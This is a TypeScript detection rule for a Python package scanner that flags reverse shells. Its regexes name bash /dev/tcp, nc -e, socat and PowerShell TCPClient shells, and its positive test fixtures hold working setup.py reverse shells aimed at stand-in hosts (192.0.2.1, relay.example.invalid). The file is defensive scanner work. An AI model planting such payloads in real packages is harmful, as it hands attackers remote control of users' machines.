import { defineRule } from '../types.js';
import type { PyPackage, PyReport } from '../../analysis/python/model.js';
import { short, triggerOf } from '../../analysis/python/model.js';
import type { Val } from '../../analysis/python/values.js';
import { lineTrigger, textHits, when } from './util.js';

const SHELL_TEXT_RE = /bash\s+-i\s*>&\s*\/dev\/tcp\/|\/dev\/tcp\/[\w.-]{1,80}\/\d{1,5}|\bnc(?:at)?\s+(?:-\w+\s+){0,4}-e\s+\/bin\/(?:ba)?sh|\bsocat\s+[^\n]{0,80}exec:|mkfifo\s+\/tmp\/\w+;\s*(?:cat|nc)|New-Object\s+System\.Net\.Sockets\.TCPClient/i;

const SHELL_CMD_RE = /\/bin\/(?:ba|z|da)?sh\b|^(?:ba|z)?sh$|cmd(?:\.exe)?$|^cmd(?:\.exe)?\b|powershell|pwsh/i;

/** A command line whose program is itself a shell. */
const SHELL_PROGRAM_RE = /^\s*(?:\S*[\\/])?(?:(?:ba|z|da|k)?sh|cmd|powershell|pwsh)(?:\.exe)?(?:\s|$)/i;

function isPipe(v: Val | undefined): boolean {
  return v !== undefined && ((v.k === 'ref' && v.name === 'subprocess.PIPE') || (v.k === 'num' && v.n === -1));
}

export const reverseShell = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/reverse-shell',
    kind: 'threat',
    category: 'remote-access',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['pypi'],
    description: 'Opens a reverse shell: a socket wired to a shell (dup2/pty.spawn/subprocess with the socket as stdio, /dev/tcp, nc -e).',
    examples: {
      positive: [
        {
          files: {
            'setup.py': "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
          },
        },
        {
          files: {
            'setup.py':
              "import socket, subprocess, threading\ndef pump(s, p):\n    while True:\n        p.stdin.write(s.recv(1024))\ns = socket.socket()\ns.connect(('relay.example.invalid', 4444))\np = subprocess.Popen(['powershell'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\nthreading.Thread(target=pump, args=[s, p]).start()\n",
          },
        },
      ],
      negative: [
        { files: { 'pkg/srv.py': "import socket\ndef serve():\n    s = socket.socket()\n    s.bind(('127.0.0.1', 8000))\n    s.listen()\n" } },
        { files: { 'pkg/repl.py': "import socket, subprocess\ns = socket.create_connection(('127.0.0.1', 9000))\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n" } },
      ],
    },
  },
  check(pkg, report) {
    for (const file of pkg.files) {
      const connects = file.facts.sinks.filter((s) => s.kind === 'socket');
      if (connects.length > 0) {
        const wiring = file.facts.calls.find(
          (c) =>
            c.name === 'os.dup2' ||
            c.name === 'pty.spawn' ||
            (/^subprocess\./.test(c.name) && ['stdin', 'stdout', 'stderr'].some((k) => { const v = c.kw[k]; return v !== undefined && v.k === 'unknown' && (v.from ?? '').startsWith('socket.socket'); })),
        );
        const shell = file.facts.commands.some((c) => SHELL_CMD_RE.test(c.cmd)) || file.facts.calls.some((c) => c.name === 'pty.spawn');
        if (wiring !== undefined && shell) {
          const trigger = triggerOf(file, wiring);
          report({ path: file.path, line: wiring.line, col: wiring.col, trigger, ...(wiring.decoded !== undefined ? { decoded: wiring.decoded } : {}), message: `Wires a network socket to a shell (reverse shell) ${when(trigger)}.` });
          continue;
        }
        // Relay: a shell started with piped stdin, next to an outbound connection to a remote host
        // (threads copy socket.recv() into the shell's stdin and its stdout into socket.send()).
        const remote = connects.find((c) => c.dest !== undefined && c.dest.cls !== 'local' && c.dest.cls !== 'dynamic');
        const piped = file.facts.commands.find((c) => SHELL_PROGRAM_RE.test(c.cmd) && file.facts.calls.some((k) => k.line === c.line && /^subprocess\.Popen/.test(k.name) && isPipe(k.kw['stdin']) && isPipe(k.kw['stdout'])));
        if (remote !== undefined && piped !== undefined) {
          const trigger = triggerOf(file, piped);
          report({ path: file.path, line: piped.line, col: piped.col, trigger, ...(piped.decoded !== undefined ? { decoded: piped.decoded } : {}), message: `Starts a shell (${short(piped.cmd, 40)}) with piped input next to a connection to ${remote.dest?.host ?? 'a remote host'} (reverse shell relay) ${when(trigger)}.` });
          continue;
        }
      }
      for (const hit of textHits(file, SHELL_TEXT_RE, 1)) {
        const trigger = lineTrigger(file, hit.line);
        report({ path: file.path, line: hit.line, col: hit.col, trigger, ...(hit.decoded !== undefined ? { decoded: hit.decoded } : {}), message: `Contains a reverse-shell command (${hit.match.slice(0, 60)}) ${when(trigger)}.` });
      }
    }
  },
});
